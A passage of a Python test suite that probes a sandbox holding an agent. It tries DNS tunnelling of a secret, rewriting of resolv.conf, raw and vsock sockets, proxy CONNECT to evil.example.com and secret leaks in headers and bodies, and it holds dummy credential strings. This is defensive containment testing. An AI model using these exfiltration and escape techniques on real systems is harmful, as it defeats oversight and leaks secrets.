"""Escape and exfiltration probes, run inside a bottle as its (root) agent.

Each probe tries one way out and prints `PROBE <name> ok|FAIL <detail> <ms>ms`.
`ok` means the attempt was refused explicitly (an error code, a DNS rcode, an
HTTP 403, a closed channel) within PROBE_LIMIT_MS; a timeout is never a
refusal. Positive controls (`*_baseline_*`) prove the client code works, so a
refusal elsewhere is the guard's doing and not a broken probe.

Inputs (agent environment): PROBE_MODE (`main` or `rebind`), PROBE_PORT (the
allowed site's port), PROBE_SECRET (a host secret the agent is assumed to have
read somewhere), PROBE_TOKEN_SHA256 / PROBE_TOKEN_LEN / PROBE_TOKEN_FIRST (to
recognise the injected credential without knowing it).
"""
import base64, ctypes, errno, gzip, hashlib, http.client, json, os, random
import socket, ssl, struct, subprocess, sys, time, urllib.parse

LIMIT_MS = 2000
MODE = os.environ.get("PROBE_MODE", "main")
PORT = int(os.environ.get("PROBE_PORT", "443"))
SECRET = os.environ.get("PROBE_SECRET", "")
TOKEN_SHA = os.environ.get("PROBE_TOKEN_SHA256", "")
TOKEN_LEN = int(os.environ.get("PROBE_TOKEN_LEN", "0"))
TOKEN_FIRST = os.environ.get("PROBE_TOKEN_FIRST", "v").encode()
SITE = "api.bottle.test"
PROXY = ("127.0.0.1", 3128)
REFUSALS = (errno.ENETUNREACH, errno.EHOSTUNREACH, errno.ECONNREFUSED,
            errno.ECONNRESET, errno.EADDRNOTAVAIL, errno.EPERM, errno.EACCES,
            errno.ENODEV, errno.EAFNOSUPPORT, errno.ENOTCONN, errno.EPIPE)
RECEIVED = []  # every byte string the guest got back, checked for the token
PROBES = []


class Refused(Exception):
    """Raised by a probe when the way out is open (the probe fails)."""


def probe(name, limit_ms=LIMIT_MS):
    def wrap(fn):
        PROBES.append((name, fn, limit_ms))
        return fn
    return wrap


def run_all(only=None):
    failed = 0
    for name, fn, limit in PROBES:
        if only and name not in only:
            continue
        t = time.monotonic()
        try:
            detail = fn() or ""
            ok = True
        except Exception as e:  # any exception means "not shown refused"
            ok, detail = False, f"{type(e).__name__}: {e}"
        ms = int((time.monotonic() - t) * 1000)
        if ok and ms >= limit:
            ok, detail = False, f"slow ({ms} ms >= {limit} ms): {detail}"
        failed += not ok
        detail = " ".join(str(detail).split())[:300]
        print(f"PROBE {name} {'ok' if ok else 'FAIL'} {detail} {ms}ms", flush=True)
    print(f"PROBES done failed={failed}", flush=True)


# ---------------------------------------------------------------- helpers

def expect_errno(fn, allowed=REFUSALS):
    """Run fn; it must raise an OSError with an errno in `allowed`."""
    try:
        fn()
    except socket.timeout:
        raise Refused("timed out: no explicit refusal")
    except OSError as e:
        if e.errno in allowed:
            return errno.errorcode.get(e.errno, str(e.errno))
        raise Refused(f"unexpected error {e!r}")
    raise Refused("succeeded")


def tcp_to(addr, family=socket.AF_INET):
    def go():
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(1.5)
        try:
            s.connect(addr)
        finally:
            s.close()
    return go


def udp_to(addr, family=socket.AF_INET, data=b"x"):
    def go():
        s = socket.socket(family, socket.SOCK_DGRAM)
        s.settimeout(1.5)
        try:
            s.sendto(data, addr)
            s.recvfrom(100)  # a sent datagram with no route must fail above
        finally:
            s.close()
    return go


TYPES = {"A": 1, "NS": 2, "CNAME": 5, "NULL": 10, "MX": 15, "TXT": 16,
         "AAAA": 28, "ANY": 255}
RCODES = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}


def dns_query(name, qtype="A", server="127.0.0.1", tcp=False, edns=None, pad=b""):
    """One raw query; returns (rcode name, answer count, answer bytes)."""
    qid = random.randrange(65536)
    arcount = 1 if edns is not None else 0
    q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, arcount)
    for label in name.rstrip(".").split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\0" + struct.pack(">HH", TYPES.get(qtype, 1), 1)
    if edns is not None:
        # OPT RR: root name, type 41, udp size 4096, ext rcode/flags 0, options.
        q += b"\0" + struct.pack(">HHIH", 41, 4096, 0, len(edns)) + edns
    q += pad
    if tcp:
        s = socket.create_connection((server, 53), timeout=1.5)
        try:
            s.sendall(struct.pack(">H", len(q)) + q)
            head = recv_exact(s, 2)
            data = recv_exact(s, struct.unpack(">H", head)[0])
        finally:
            s.close()
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(1.5)
        try:
            s.sendto(q, (server, 53))
            data, _ = s.recvfrom(65535)
        finally:
            s.close()
    RECEIVED.append(data)
    _, flags, _, an, _, _ = struct.unpack(">HHHHHH", data[:12])
    return RCODES.get(flags & 0xF, str(flags & 0xF)), an, data


def recv_exact(s, n):
    data = b""
    while len(data) < n:
        chunk = s.recv(n - len(data))
        if not chunk:
            raise Refused(f"closed after {len(data)} of {n} bytes")
        data += chunk
    return data


def dns_blocked(name, qtype="A", tcp=False, edns=None, allowed=("NXDOMAIN", "REFUSED")):
    try:
        rcode, an, _ = dns_query(name, qtype, tcp=tcp, edns=edns)
    except socket.timeout:
        raise Refused("DNS timed out: no explicit refusal")
    if rcode not in allowed or an:
        raise Refused(f"{name} {qtype}: {rcode} with {an} answers")
    return f"{qtype} {rcode}"


def labels_for(data, enc):
    """`data` encoded as DNS labels (<= 40 chars) in encoding `enc`."""
    if enc == "hex":
        text = data.hex()
    elif enc == "base32":
        text = base64.b32encode(data).decode().rstrip("=").lower()
    else:  # base64-ish: base64url without padding
        text = base64.urlsafe_b64encode(data).decode().rstrip("=")
    return ".".join(text[i:i + 40] for i in range(0, len(text), 40))


def tunnel_name(enc="hex", tag=""):
    return f"{labels_for((tag + SECRET).encode(), enc)}.tunnel.bottle.test"


def proxy_raw(request, read=4096):
    """Send raw bytes to the guest's proxy listener; return the reply."""
    s = socket.create_connection(PROXY, timeout=1.8)
    try:
        s.sendall(request)
        return read_reply(s, read)
    finally:
        s.close()


def read_reply(s, limit=65536):
    data = b""
    try:
        while len(data) < limit:
            chunk = s.recv(limit - len(data))
            if not chunk:
                break
            data += chunk
            if b"\r\n\r\n" in data and reply_complete(data):
                break
    except socket.timeout:
        if not data:
            raise Refused("no reply: timed out")
    RECEIVED.append(data)
    return data


def reply_complete(data):
    head, _, body = data.partition(b"\r\n\r\n")
    for line in head.split(b"\r\n")[1:]:
        k, _, v = line.partition(b":")
        if k.strip().lower() == b"content-length":
            return len(body) >= int(v.strip())
        if k.strip().lower() == b"transfer-encoding":
            return body.endswith(b"0\r\n\r\n")
    return True


def status_of(reply):
    try:
        return int(reply.split(b" ", 2)[1])
    except (IndexError, ValueError):
        return None


def expect_403(reply, what):
    st = status_of(reply)
    if st != 403:
        raise Refused(f"{what}: status {st} {reply[:120]!r}")
    rule = b""
    for line in reply.split(b"\r\n"):
        if line.lower().startswith(b"x-bottle-rule:"):
            rule = line.split(b":", 1)[1].strip()
    return f"403 {rule.decode(errors='replace')}"


def tls_ctx(verify=True, alpn=("http/1.1",)):
    ctx = ssl.create_default_context()
    if not verify:
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(list(alpn))
    return ctx


def tunnel(host=SITE, port=None, sni=SITE, verify=True, alpn=("http/1.1",)):
    """CONNECT through the proxy and start TLS with `sni`."""
    port = port or PORT
    s = socket.create_connection(PROXY, timeout=1.8)
    s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = s.recv(4096)
        if not chunk:
            raise Refused("proxy closed at CONNECT")
        head += chunk
    if status_of(head) != 200:
        s.close()
        raise Refused(f"CONNECT refused: {head[:80]!r}")
    return tls_ctx(verify, alpn).wrap_socket(s, server_hostname=sni)


def https(method, path, headers=None, body=None, host=SITE, chunks=None):
    """One request to the allowed site through the proxy (HTTP/1.1)."""
    conn = http.client.HTTPSConnection(PROXY[0], PROXY[1], timeout=1.8, context=tls_ctx())
    conn.set_tunnel(host, PORT)
    try:
        hdrs = dict(headers or {})
        if chunks is not None:
            conn.request(method, path, body=iter(chunks), headers=hdrs, encode_chunked=True)
        else:
            conn.request(method, path, body=body, headers=hdrs)
        r = conn.getresponse()
        data = r.read()
        RECEIVED.append(data)
        RECEIVED.append(str(r.getheaders()).encode())
        return r.status, dict((k.lower(), v) for k, v in r.getheaders()), data
    finally:
        conn.close()


def must_403(method, path, headers=None, body=None, chunks=None):
    st, h, data = https(method, path, headers, body, chunks=chunks)
    if st != 403:
        raise Refused(f"status {st}: {data[:80]!r}")
    return f"403 {h.get('x-bottle-rule', '')}"


# ------------------------------------------------------------------ DNS

if MODE == "main":
    for qtype in ["A", "AAAA", "TXT", "NULL", "CNAME", "MX", "ANY"]:
        probe(f"dns_tunnel_{qtype.lower()}")(
            lambda qtype=qtype: dns_blocked(tunnel_name("hex", qtype), qtype))

    for enc in ["hex", "base32", "base64"]:
        probe(f"dns_tunnel_{enc}_labels")(
            lambda enc=enc: dns_blocked(tunnel_name(enc, "e" + enc), "A"))

    @probe("dns_tunnel_tcp")
    def _():
        return dns_blocked(tunnel_name("hex", "tcp"), "A", tcp=True)

    @probe("dns_tunnel_tcp_txt")
    def _():
        return dns_blocked(tunnel_name("base32", "tcptxt"), "TXT", tcp=True)

    @probe("dns_baseline_allowed_name")
    def _():
        rcode, an, _ = dns_query("www.tunnel.bottle.test", "A")
        if rcode != "NOERROR" or an < 1:
            raise Refused(f"allowed name not answered: {rcode} {an}")
        return f"{rcode} {an}"

    @probe("dns_denied_name_nxdomain")
    def _():
        return dns_blocked("exfil-" + SECRET[:8].lower() + ".example.com", "A")

    @probe("dns_hardcoded_resolver_udp")
    def _():
        return expect_errno(udp_to(("8.8.8.8", 53), data=b"\0" * 12))

    @probe("dns_hardcoded_resolver_tcp")
    def _():
        return expect_errno(tcp_to(("1.1.1.1", 53)))

    @probe("dns_hardcoded_resolver_v6")
    def _():
        return expect_errno(udp_to(("2001:4860:4860::8888", 53), socket.AF_INET6, b"\0" * 12))

    @probe("dns_resolv_conf_rewritten")
    def _():
        old = open("/etc/resolv.conf").read()
        try:
            with open("/etc/resolv.conf", "w") as f:
                f.write("nameserver 8.8.8.8\nnameserver 1.1.1.1\n")
            try:
                socket.getaddrinfo("exfil-resolv.example.com", 443)
                raise Refused("denied name resolved after rewriting resolv.conf")
            except socket.gaierror as e:
                return f"gaierror {e.args[0]}"
        finally:
            with open("/etc/resolv.conf", "w") as f:
                f.write(old)

    @probe("dns_edns_option_payload")
    def _():
        # An allowed name with the secret in an EDNS option (code 65001) and
        # in a client-subnet option: answered, but the options never go
        # upstream (the host side checks the upstream's raw queries).
        payload = SECRET.encode()
        opts = struct.pack(">HH", 65001, len(payload)) + payload
        opts += struct.pack(">HHHBB", 8, 8, 1, 32, 0) + bytes([1, 2, 3, 4])
        rcode, an, _ = dns_query("edns.tunnel.bottle.test", "A", edns=opts)
        if rcode not in ("NOERROR", "FORMERR", "REFUSED"):
            raise Refused(f"unexpected {rcode}")
        return f"{rcode} {an}"

    @probe("dns_edns_tunnel_name")
    def _():
        return dns_blocked(tunnel_name("hex", "edns"), "A", edns=b"")

    @probe("dns_oversize_udp")
    def _():
        rcode, an, _ = dns_query(tunnel_name("hex", "big"), "A", pad=os.urandom(3000))
        if rcode not in ("FORMERR", "NXDOMAIN", "REFUSED") or an:
            raise Refused(f"oversize query answered {rcode} {an}")
        return rcode

    @probe("dns_oversize_name")
    def _():
        # 4 labels of 63 characters: over every length limit.
        name = ".".join(["a" * 63] * 3 + ["b" * 50]) + ".tunnel.bottle.test"
        name = name[-250:].lstrip(".")
        return dns_blocked(name, "A", allowed=("NXDOMAIN", "REFUSED", "FORMERR"))

    @probe("dns_deep_labels")
    def _():
        return dns_blocked("a.b.c.d.e.f.g.tunnel.bottle.test", "A")


# -------------------------------------------------------------- network

if MODE == "main":
    @probe("net_only_loopback")
    def _():
        names = [n for _, n in socket.if_nameindex()]
        if names != ["lo"]:
            raise Refused(f"interfaces: {names}")
        return ",".join(names)

    @probe("net_no_nic_device")
    def _():
        found = []
        for d in os.listdir("/sys/bus/virtio/devices") if os.path.isdir("/sys/bus/virtio/devices") else []:
            dev = open(f"/sys/bus/virtio/devices/{d}/device").read().strip()
            if dev == "0x0001":  # virtio-net
                found.append(d)
        for d in os.listdir("/sys/bus/pci/devices") if os.path.isdir("/sys/bus/pci/devices") else []:
            cls = open(f"/sys/bus/pci/devices/{d}/class").read().strip()
            if cls.startswith("0x02"):  # network controller
                found.append(d)
        if found:
            raise Refused(f"network hardware present: {found}")
        return "no virtio-net or PCI network device"

    @probe("net_tcp_public_ip")
    def _():
        return expect_errno(tcp_to(("1.1.1.1", 443)))

    @probe("net_udp_public_ip")
    def _():
        return expect_errno(udp_to(("9.9.9.9", 443)))

    @probe("net_tcp_qemu_gateway")
    def _():
        return expect_errno(tcp_to(("10.0.2.2", 22)))

    @probe("net_tcp_metadata_ip")
    def _():
        return expect_errno(tcp_to(("169.254.169.254", 80)))

    @probe("net_guest_loopback_is_not_host")
    def _():
        # The allowed site listens on the host's 127.0.0.1:PORT; the guest's
        # loopback is its own.
        return expect_errno(tcp_to(("127.0.0.1", PORT)), (errno.ECONNREFUSED,))

    @probe("net_ipv6_tcp")
    def _():
        return expect_errno(tcp_to(("2606:4700:4700::1111", 443, 0, 0), socket.AF_INET6))

    @probe("net_ipv6_udp")
    def _():
        return expect_errno(udp_to(("2606:4700:4700::1111", 53, 0, 0), socket.AF_INET6))

    @probe("net_raw_socket")
    def _():
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20, 0, 0, 64, 17, 0,
                         socket.inet_aton("10.0.0.1"), socket.inet_aton("1.1.1.1"))
        try:
            return "raw socket open; " + expect_errno(lambda: s.sendto(ip, ("1.1.1.1", 0)))
        finally:
            s.close()

    @probe("net_icmp_ping")
    def _():
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        echo = struct.pack("!BBHHH", 8, 0, 0xf7ff, 0, 0)
        try:
            return expect_errno(lambda: s.sendto(echo, ("8.8.8.8", 0)))
        finally:
            s.close()

    @probe("net_packet_socket_lo_only")
    def _():
        # AF_PACKET works as root, but the only device is lo: a frame sent
        # there loops back inside the guest.
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        try:
            for idx, name in socket.if_nameindex():
                if name != "lo":
                    raise Refused(f"packet socket could use {name}")
            return expect_errno(lambda: s.bind(("eth0", 0)), (errno.ENODEV,))
        finally:
            s.close()

    @probe("net_bring_up_interface")
    def _():
        # Creating a virtual interface (dummy/veth) may or may not work; it
        # never adds hardware, so there is still nothing to carry packets
        # out. Checked: every interface afterwards is virtual.
        tries = []
        for cmd in (["ip", "link", "add", "probe0", "type", "dummy"],
                    ["ip", "link", "set", "lo", "up"],
                    ["ip", "link", "add", "probe1", "type", "veth", "peer", "name", "probe2"]):
            r = subprocess.run(cmd, capture_output=True, text=True, timeout=1.5)
            tries.append(f"{cmd[3]}:{r.returncode}")
        physical = [n for n in os.listdir("/sys/class/net")
                    if os.path.exists(f"/sys/class/net/{n}/device")]
        for n in ("probe0", "probe1"):
            subprocess.run(["ip", "link", "del", n], capture_output=True, timeout=1.5)
        if physical:
            raise Refused(f"hardware interfaces: {physical}")
        return " ".join(tries) + "; no hardware interface; " + expect_errno(tcp_to(("1.1.1.1", 80)))

    VSOCK_REFUSED = (errno.ECONNRESET, errno.ECONNREFUSED, errno.ENODEV,
                     errno.EHOSTUNREACH, errno.ENETUNREACH, errno.EADDRNOTAVAIL)

    def vsock_connect(cid, port, wait=0.5):
        """Connect over vsock: the refusal errno, or "dropped" when the
        request got no answer within `wait` (vhost-device-vsock drops
        requests for ports nobody serves and for unknown CIDs without a
        reset). Raises Refused if a connection is made."""
        s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
        s.settimeout(wait)
        try:
            s.connect((cid, port))
            if s.recv(1) == b"":
                return "accepted then closed at once"
            raise Refused(f"connected to CID {cid} port {port}")
        except socket.timeout:
            return "dropped"
        except OSError as e:
            if e.errno == errno.ETIMEDOUT:
                return "dropped"
            if e.errno in VSOCK_REFUSED:
                return errno.errorcode[e.errno]
            raise Refused(f"unexpected {e!r}")
        finally:
            s.close()

    for port in (22, 1024, 6000, 6004, 8080):
        probe(f"net_vsock_host_port_{port}")(lambda port=port: vsock_connect(2, port))

    for cid, label in ((0, "hypervisor"), (1, "local"), (3, "self"), (4, "other"), (0xFFFFFFFF - 1, "high")):
        probe(f"net_vsock_cid_{label}")(lambda cid=cid: vsock_connect(cid, 6003))

    @probe("net_vsock_unserved_port_reset")
    def _():
        # Strict form: an unserved port must be refused with a reset, not
        # dropped. Fails while vhost-device-vsock drops such requests.
        r = vsock_connect(2, 6004, wait=1.5)
        if r == "dropped":
            raise Refused("connection request dropped, no reset (ETIMEDOUT after the kernel's 2 s)")
        return r

    def vsock_garbage(port, trailing):
        # A well-formed frame that is no hello ("GET /"), optionally
        # followed by more bytes the host never reads.
        s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
        s.settimeout(1.8)
        try:
            s.connect((2, port))
            s.sendall(b"\x00\x00\x00\x05GET /" + (b"\r\n" + b"\xff" * 64 if trailing else b""))
            data = b""
            try:
                while True:
                    chunk = s.recv(4096)
                    if not chunk:
                        break
                    data += chunk
            except ConnectionResetError:
                pass
            except socket.timeout:
                raise Refused(f"not closed within 1.8 s ({len(data)} bytes read)")
            if b"HTTP/1.1 200" in data:
                raise Refused("garbage got an HTTP answer")
            return f"closed after {len(data)} bytes"
        finally:
            s.close()

    for port in (6001, 6002, 6003):
        probe(f"net_vsock_garbage_{port}")(lambda port=port: vsock_garbage(port, False))
    probe("net_vsock_garbage_trailing_bytes")(lambda: vsock_garbage(6002, True))

    @probe("net_vsock_egress_direct")
    def _():
        # Skip the guest's forwarder: hello on 6003 ourselves, then CONNECT
        # to a denied host. The channel is the proxy: 403.
        soft = b"probe"
        hello = bytes([1, 0, 0, 2, len(soft)]) + soft
        s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
        s.settimeout(1.8)
        try:
            s.connect((2, 6003))
            s.sendall(struct.pack(">I", len(hello)) + hello)
            n = struct.unpack(">I", recv_exact(s, 4))[0]
            reply = recv_exact(s, n)
            if reply[:1] != b"\x00":
                raise Refused(f"hello refused: {reply!r}")
            s.sendall(b"CONNECT evil.example.com:443 HTTP/1.1\r\nHost: evil.example.com:443\r\n\r\n")
            return expect_403(read_reply(s), "direct egress CONNECT")
        finally:
            s.close()


# ---------------------------------------------------------------- proxy

if MODE == "main":
    @probe("proxy_baseline_allowed")
    def _():
        st, h, data = https("GET", "/baseline")
        if st != 200 or data != b"hello from upstream\n" or h.get("x-auth") != "ok":
            raise Refused(f"allowed request failed: {st} {h.get('x-auth')} {data[:60]!r}")
        return "200 x-auth ok"

    @probe("proxy_connect_ip_literal")
    def _():
        return expect_403(proxy_raw(b"CONNECT 1.1.1.1:443 HTTP/1.1\r\nHost: 1.1.1.1:443\r\n\r\n"), "ip")

    @probe("proxy_connect_ipv6_literal")
    def _():
        return expect_403(proxy_raw(b"CONNECT [2606:4700::1111]:443 HTTP/1.1\r\nHost: [2606:4700::1111]:443\r\n\r\n"), "ipv6")

    @probe("proxy_connect_loopback_literal")
    def _():
        return expect_403(proxy_raw(f"CONNECT 127.0.0.1:{PORT} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode()), "lo")

    @probe("proxy_connect_denied_host")
    def _():
        return expect_403(proxy_raw(b"CONNECT evil.example.com:443 HTTP/1.1\r\nHost: evil.example.com:443\r\n\r\n"), "denied")

    @probe("proxy_connect_suffix_trick")
    def _():
        req = f"CONNECT {SITE}.evil.example.com:{PORT} HTTP/1.1\r\nHost: x\r\n\r\n"
        return expect_403(proxy_raw(req.encode()), "suffix")

    @probe("proxy_connect_denied_port")
    def _():
        return expect_403(proxy_raw(f"CONNECT {SITE}:22 HTTP/1.1\r\nHost: {SITE}:22\r\n\r\n".encode()), "port")

    @probe("proxy_sni_mismatch")
    def _():
        try:
            s = tunnel(sni="evil.example.com", verify=False)
        except (ssl.SSLError, ConnectionError) as e:
            return f"TLS refused: {e}"
        try:
            s.sendall(b"GET /sni-mismatch HTTP/1.1\r\nHost: evil.example.com\r\n\r\n")
            return expect_403(read_reply(s), "sni")
        except (ssl.SSLError, ConnectionError) as e:
            return f"refused: {e}"
        finally:
            s.close()

    @probe("proxy_no_sni")
    def _():
        try:
            s = tunnel(sni=None, verify=False)
        except (ssl.SSLError, ConnectionError) as e:
            return f"TLS refused: {type(e).__name__}"
        try:
            s.sendall(f"GET /no-sni HTTP/1.1\r\nHost: {SITE}\r\n\r\n".encode())
            return expect_403(read_reply(s), "no sni")
        except (ssl.SSLError, ConnectionError) as e:
            return f"refused: {type(e).__name__}"
        finally:
            s.close()

    @probe("proxy_host_header_mismatch")
    def _():
        s = tunnel()
        try:
            s.sendall(b"GET /host-mismatch HTTP/1.1\r\nHost: evil.example.com\r\n\r\n")
            return expect_403(read_reply(s), "host")
        finally:
            s.close()

    @probe("proxy_absolute_uri_other_host")
    def _():
        # Only the CONNECT host may be reached: a refusal, or an answer from
        # the allowed site itself (the host side checks no other Host left).
        s = tunnel()
        try:
            s.sendall(f"GET https://evil.example.com/absolute-uri HTTP/1.1\r\nHost: {SITE}:{PORT}\r\n\r\n".encode())
            reply = read_reply(s)
        finally:
            s.close()
        st = status_of(reply)
        if st == 403:
            return expect_403(reply, "absolute")
        if st == 200 and reply.endswith(b"hello from upstream\n"):
            return "200 from the CONNECT host only"
        raise Refused(f"status {st}")

    @probe("proxy_second_connect_in_tunnel")
    def _():
        s = tunnel()
        try:
            s.sendall(b"CONNECT evil.example.com:443 HTTP/1.1\r\nHost: evil.example.com:443\r\n\r\n")
            try:
                reply = read_reply(s)
            except (ssl.SSLError, ConnectionError) as e:
                return f"closed: {type(e).__name__}"
        finally:
            s.close()
        st = status_of(reply)
        if st is None or st == 200:
            if not reply:
                return "closed"
            raise Refused(f"inner CONNECT answered {reply[:80]!r}")
        return f"{st}"

    @probe("proxy_plaintext_in_tunnel")
    def _():
        # CONNECT, then no TLS at all: plain HTTP for another host.
        s = socket.create_connection(PROXY, timeout=1.8)
        try:
            s.sendall(f"CONNECT {SITE}:{PORT} HTTP/1.1\r\nHost: {SITE}:{PORT}\r\n\r\n".encode())
            head = read_reply(s)
            if status_of(head) != 200:
                return expect_403(head, "connect")
            s.sendall(b"GET /plain-in-tunnel HTTP/1.1\r\nHost: evil.example.com\r\n\r\n")
            try:
                reply = read_reply(s)
            except ConnectionError:
                return "closed"
            if status_of(reply) == 200:
                raise Refused(f"plaintext in tunnel answered: {reply[:80]!r}")
            return f"{status_of(reply)} {len(reply)} bytes"
        finally:
            s.close()

    @probe("proxy_plain_http_denied_host")
    def _():
        return expect_403(proxy_raw(b"GET http://evil.example.com/ HTTP/1.1\r\nHost: evil.example.com\r\n\r\n"), "plain")

    @probe("proxy_plain_http_ip_literal")
    def _():
        return expect_403(proxy_raw(b"GET http://1.1.1.1/ HTTP/1.1\r\nHost: 1.1.1.1\r\n\r\n"), "plain ip")

    @probe("proxy_plain_http_host_mismatch")
    def _():
        req = f"GET http://{SITE}:{PORT}/plain-mismatch HTTP/1.1\r\nHost: evil.example.com\r\n\r\n"
        return expect_403(proxy_raw(req.encode()), "plain mismatch")

    @probe("proxy_origin_form_other_host")
    def _():
        reply = proxy_raw(b"GET /origin-form HTTP/1.1\r\nHost: evil.example.com\r\n\r\n")
        st = status_of(reply)
        if st is None or st >= 400:
            return f"{st}"
        raise Refused(f"origin-form request answered {st}")

    @probe("proxy_websocket_other_host")
    def _():
        s = tunnel()
        try:
            s.sendall(f"GET /ws HTTP/1.1\r\nHost: evil.example.com\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                      "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n".encode())
            reply = read_reply(s)
        finally:
            s.close()
        if status_of(reply) != 403:
            raise Refused(f"upgrade for another host answered {status_of(reply)}")
        return expect_403(reply, "ws")

    def h2_request(authority, path):
        """A minimal HTTP/2 GET (HPACK literals, no Huffman); returns frames."""
        s = tunnel(alpn=("h2",))
        try:
            if s.selected_alpn_protocol() != "h2":
                raise Refused(f"no h2 (alpn {s.selected_alpn_protocol()})")

            def lit(name, value):
                return bytes([0, len(name)]) + name + bytes([len(value)]) + value
            block = (lit(b":method", b"GET") + lit(b":scheme", b"https")
                     + lit(b":path", path.encode()) + lit(b":authority", authority.encode()))

            def frame(ftype, flags, sid, payload):
                return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid) + payload
            s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
                      + frame(1, 0x5, 1, block))
            frames = []
            while True:
                head = recv_exact(s, 9)
                n = int.from_bytes(head[:3], "big")
                ftype, flags, sid = head[3], head[4], int.from_bytes(head[5:9], "big") & 0x7FFFFFFF
                payload = recv_exact(s, n)
                RECEIVED.append(payload)
                if ftype == 4 and not flags & 1:
                    s.sendall(frame(4, 1, 0, b""))
                frames.append((ftype, flags, sid, payload))
                if ftype == 7 or (sid == 1 and (ftype == 3 or flags & 1)):
                    return frames
        finally:
            s.close()

    @probe("proxy_h2_baseline_allowed")
    def _():
        frames = h2_request(f"{SITE}:{PORT}", "/h2-baseline")
        if not any(f[0] == 0 and b"hello from upstream" in f[3] for f in frames):
            raise Refused(f"no body in {[(f[0], f[1]) for f in frames]}")
        return "h2 200"

    @probe("proxy_h2_authority_mismatch")
    def _():
        frames = h2_request("evil.example.com", "/h2-authority")
        if any(f[0] == 0 and b"hello from upstream" in f[3] for f in frames):
            raise Refused("request reached the upstream")
        kinds = [f[0] for f in frames if f[2] in (0, 1)]
        return f"refused (frame types {kinds})"


# -------------------------------------------------------------- secrets

def enc_forms(s):
    b = s.encode()
    return {
        "base64": base64.b64encode(b).decode(),
        "base64url": base64.urlsafe_b64encode(b).decode().rstrip("="),
        "hex": b.hex(),
        "base32": base64.b32encode(b).decode(),
        "urlencoded": "".join(f"%{c:02X}" for c in b),
    }


COMMON = {
    "github": "ghp_" + "aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5",
    "aws": "AKIA" + "IOSFODNN7EXAMPLQ",
    "anthropic": "sk-ant-api03-" + "x" * 20 + "Yz9_" + "a" * 70,
    "slack": "xoxb-" + "123456789012-1234567890123-" + "aBcDeFgHiJkLmNoPqRsTuVwX",
    "pem": "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n",
}

if MODE == "main":
    @probe("secrets_url_path")
    def _():
        return must_403("GET", "/leak/" + urllib.parse.quote(SECRET))

    @probe("secrets_query")
    def _():
        return must_403("GET", "/leak?k=" + urllib.parse.quote(SECRET))

    @probe("secrets_header")
    def _():
        return must_403("GET", "/leak", {"X-Leak": SECRET})

    @probe("secrets_cookie")
    def _():
        return must_403("GET", "/leak", {"Cookie": f"session=abc; leak={SECRET}"})

    @probe("secrets_basic_auth")
    def _():
        cred = base64.b64encode(f"user:{SECRET}".encode()).decode()
        return must_403("GET", "/leak", {"X-Other-Auth": f"Basic {cred}"})

    @probe("secrets_json_body")
    def _():
        return must_403("POST", "/leak", {"Content-Type": "application/json"},
                        json.dumps({"note": "hi", "data": SECRET}).encode())

    @probe("secrets_form_body")
    def _():
        return must_403("POST", "/leak", {"Content-Type": "application/x-www-form-urlencoded"},
                        urllib.parse.urlencode({"a": "1", "b": SECRET + "&"}).encode())

    @probe("secrets_multipart_body")
    def _():
        body = (b"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n\r\n"
                + SECRET.encode() + b"\r\n--XyZ--\r\n")
        return must_403("POST", "/leak", {"Content-Type": "multipart/form-data; boundary=XyZ"}, body)

    @probe("secrets_chunked_body_split")
    def _():
        b = ("x" * 5000 + SECRET + "y" * 100).encode()
        cut = 5000 + len(SECRET) // 2
        return must_403("POST", "/leak", {"Content-Type": "text/plain"},
                        chunks=[b[:cut], b[cut:cut + 3], b[cut + 3:]])

    @probe("secrets_gzip_body")
    def _():
        return must_403("POST", "/leak", {"Content-Encoding": "gzip", "Content-Type": "text/plain"},
                        gzip.compress(("pad " * 100 + SECRET).encode()))

    @probe("secrets_unknown_content_encoding")
    def _():
        st, h, data = https("POST", "/leak-br", {"Content-Encoding": "br"}, b"\x1b\x00" + SECRET.encode()[::-1])
        if st in (403, 415):
            return f"{st} {h.get('x-bottle-rule', '')}"
        raise Refused(f"opaque encoding passed: {st}")

    for form in ["base64", "base64url", "hex", "base32", "urlencoded"]:
        probe(f"secrets_{form}_query")(
            lambda form=form: must_403("GET", "/leak?d=" + urllib.parse.quote(enc_forms(SECRET)[form], safe="%")))
        probe(f"secrets_{form}_body")(
            lambda form=form: must_403("POST", "/leak", {"Content-Type": "text/plain"},
                                       ("data=" + enc_forms(SECRET)[form] + "\n").encode()))

    @probe("secrets_split_across_requests")
    def _():
        # Known limit: each request is scanned on its own. Halves of at
        # least 8 characters each are sent in two requests; this probe
        # records whether both pass (documented in docs/security.md).
        half = len(SECRET) // 2
        a = must_403_or_status("GET", "/split-1?p=" + urllib.parse.quote(SECRET[:half]))
        b = must_403_or_status("GET", "/split-2?p=" + urllib.parse.quote(SECRET[half:]))
        if a == 200 and b == 200:
            raise Refused("both halves reached the upstream")
        return f"{a} {b}"

    def must_403_or_status(method, path):
        return https(method, path)[0]

    for kind, value in COMMON.items():
